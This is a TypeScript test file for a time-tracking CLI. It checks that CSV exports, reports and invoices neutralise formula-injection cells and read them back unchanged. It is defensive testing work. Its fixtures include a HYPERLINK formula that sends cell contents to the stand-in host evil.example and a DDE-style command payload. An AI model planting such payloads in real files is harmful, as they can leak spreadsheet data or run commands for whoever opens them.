// Hostile input is data, on the way out to a spreadsheet: a note, project or tag that starts with
// = + - @, tab or CR is written to every CSV tt makes with a leading ' (OWASP's advice against
// formula injection), numeric cells stay numbers, and tt's own invoice importer reads the cells back
// exactly as they were.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Invoice } from '../../src/invoices/model.ts';
import { guardCell, unguardCell } from '../../src/core/csv-guard.ts';
import { tempDir } from '../helpers/tmp.ts';
import { world, type Tt } from '../invoice/run.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const PROJECT = '@SUM(1+1)';
const TAG = "-cmd|'/Ccalc'!A0";
const NOTE_TAB = '\t=1+1';
const NOTE_QUOTED = "'=already quoted";

let tt: Tt;
const rowsOf = (csv: string): Record<string, string>[] => parse<Record<string, string>>(csv, { columns: true });

beforeAll(async () => {
  tt = await world('2026-12-02T10:00:00Z');
  await tt.ok('client', 'add', 'acme', '--rate', '90', '--currency', 'EUR');
  await tt.ok('add', `acme/${PROJECT}`, `+${TAG}`, '--from', '2026-11-03T09:00:00+01:00', '--to', '2026-11-03T10:30:00+01:00', '--note', FORMULA);
  await tt.ok('edit', '@1', '--estimate', '1h');
  await tt.ok('add', 'acme/+web', '--from', '2026-11-04T09:00:00+01:00', '--to', '2026-11-04T10:00:00+01:00', '--note', NOTE_TAB);
  await tt.ok('add', 'acme/-5', '--from', '2026-11-05T09:00:00+01:00', '--to', '2026-11-05T09:30:00+01:00', '--note', NOTE_QUOTED);
});

describe('CSV cells that a spreadsheet would run', () => {
  it('tt export --format csv: notes, projects and tags get a leading quote; hours stay numbers', async () => {
    const rows = rowsOf((await tt.ok('export', '--format', 'csv')).stdout);
    expect(rows.map((r) => [r.project, r.tags, r.note, r.hours])).toEqual([
      [`'${PROJECT}`, `'${TAG}`, `'${FORMULA}`, '1.5'],
      ["'+web", '', `'${NOTE_TAB}`, '1'],
      // A project that is a plain number is no formula: it stays as it is.
      ['-5', '', `''=already quoted`, '0.5'],
    ]);
  });

  it('tt report --format csv and --estimates --format csv guard names, not hours', async () => {
    const byProject = rowsOf((await tt.ok('report', '--since', '2026-11-01', '--until', '2026-11-30', '--by', 'project', '--format', 'csv')).stdout);
    // "acme/..." starts with a letter: no formula, so it is written as it is.
    expect(byProject.map((r) => [r.project, r.hours, r.amount_EUR])).toEqual([
      ['acme/+web', '1', '90.00'],
      ['acme/-5', '0.5', '45.00'],
      [`acme/${PROJECT}`, '1.5', '135.00'],
    ]);
    const byTag = rowsOf((await tt.ok('report', '--since', '2026-11-01', '--until', '2026-11-30', '--by', 'tag', '--format', 'csv')).stdout);
    expect(byTag.map((r) => r.tag)).toContain(`'${TAG}`);
    const est = rowsOf((await tt.ok('report', '--estimates', '--since', '2026-11-01', '--until', '2026-11-30', '--format', 'csv')).stdout);
    expect(est.map((r) => [r.tags, r.estimate_hours, r.actual_hours])).toEqual([[`'${TAG}`, '1', '1.5']]);
  });

  it('a CSV invoice guards project and description; tt invoice import reads them back unchanged', async () => {
    const csv = (await tt.ok('invoice', 'create', '--client', 'acme', '--period', '2026-11-02..2026-11-08', '--format', 'csv')).stdout;
    const rows = rowsOf(csv);
    expect(rows.map((r) => [r.project, r.description, r.hours, r.amount])).toEqual([
      [`'${PROJECT}`, `'${FORMULA}`, '1.5', '135'],
      ["'+web", `'${NOTE_TAB}`, '1', '90'],
      ['-5', `''=already quoted`, '0.5', '45'],
    ]);
    const file = join(tempDir(), 'invoice.csv');
    writeFileSync(file, csv);
    const back = JSON.parse((await tt.ok('invoice', 'import', file, '--number', 'R-1', '--json')).stdout) as { invoice: Invoice };
    const made = JSON.parse((await tt.ok('invoice', 'show', '2026-A001', '--json')).stdout) as Invoice;
    expect(back.invoice.lines.map((l) => [l.project, l.description, l.hours, l.amount])).toEqual(made.lines.map((l) => [l.project, l.description, l.hours, l.amount]));
    expect(back.invoice.lines.map((l) => l.project)).toEqual([PROJECT, '+web', '-5']);
  });
});

describe('guardCell and unguardCell', () => {
  it('guard text cells that start a formula, leave numbers and plain text alone, and undo exactly', () => {
    const cases: [string, string][] = [
      ['=1+1', "'=1+1"],
      ['+1+1', "'+1+1"],
      ['-1+1', "'-1+1"],
      ['@A1', "'@A1"],
      ['\tx', "'\tx"],
      ['\rx', "'\rx"],
      ["'=x", "''=x"],
      ["'plain", "'plain"],
      ['-150', '-150'],
      ['-150.25', '-150.25'],
      ['+3', '+3'],
      ['acme', 'acme'],
      ['', ''],
    ];
    for (const [cell, written] of cases) {
      expect(guardCell(cell)).toBe(written);
      expect(unguardCell(written)).toBe(cell);
    }
  });
});
